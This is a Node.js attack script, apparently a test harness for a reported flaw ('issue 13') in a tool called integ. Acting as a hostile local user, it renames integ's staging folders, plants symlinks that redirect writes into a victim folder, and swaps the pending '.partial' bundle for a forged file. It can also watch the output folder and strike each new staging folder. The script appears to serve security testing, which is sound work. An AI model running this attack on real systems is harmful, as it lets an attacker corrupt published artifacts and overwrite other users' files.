// A hostile local user (run as nobody) attacking integ's evidence staging, as in issue 13:
// find the `.…staging-*` folder in the output folder, rename it away, plant a symlink in its
// place that leads into a folder the attacker controls, where the names integ will use next
// are symlinks to a victim folder; and swap the reserved .partial for the attacker's own file.
//
//   node staging-attacker.cjs OUT LOOT VICTIM once    act on what is there now, then exit
//   node staging-attacker.cjs OUT LOOT VICTIM partial only swap the .partial (what gets published), then exit
//   node staging-attacker.cjs OUT LOOT VICTIM watch   watch OUT (inotify) and act on every
//                                                     staging folder that appears, until killed
// Prints one JSON line per attempt: {staging, renamed, planted, partial, errors}.
'use strict';
const fs = require('fs');
const path = require('path');
const [out, loot, victim, mode] = process.argv.slice(2);
const done = new Set();

function attack(entry) {
  const m = /^\.(.+)\.staging-/.exec(entry);
  if (!m || done.has(entry)) return;
  done.add(entry);
  const name = m[1];
  const r = { staging: entry, renamed: false, planted: false, partial: false, errors: [] };
  const fake = fs.mkdtempSync(path.join(loot, 'fake-'));
  try {
    fs.mkdirSync(path.join(fake, name), { recursive: true });
    for (const d of ['artifacts', 'raw', 'check', 'changed-files']) fs.symlinkSync(victim, path.join(fake, name, d));
  } catch (e) {
    r.errors.push(`prepare: ${e.code}`);
  }
  if (mode !== 'partial') try {
    fs.renameSync(path.join(out, entry), path.join(out, `stolen-${entry.slice(1)}`));
    r.renamed = true;
    fs.symlinkSync(fake, path.join(out, entry));
    r.planted = true;
  } catch (e) {
    r.errors.push(`staging: ${e.code}`);
  }
  const partial = path.join(out, `${name}.tar.gz.partial`);
  try {
    fs.renameSync(partial, path.join(out, `stolen-${name}.partial`));
    fs.writeFileSync(partial, 'forged bundle\n');
    r.partial = true;
  } catch (e) {
    r.errors.push(`partial: ${e.code}`);
  }
  process.stdout.write(`${JSON.stringify(r)}\n`);
}

function scan() {
  let names = [];
  try {
    names = fs.readdirSync(out);
  } catch (e) {
    return;
  }
  for (const n of names) attack(n);
}

if (mode === 'watch') {
  fs.watch(out, () => scan());
  scan();
  process.stdout.write('{"watching":true}\n');
} else {
  scan();
}
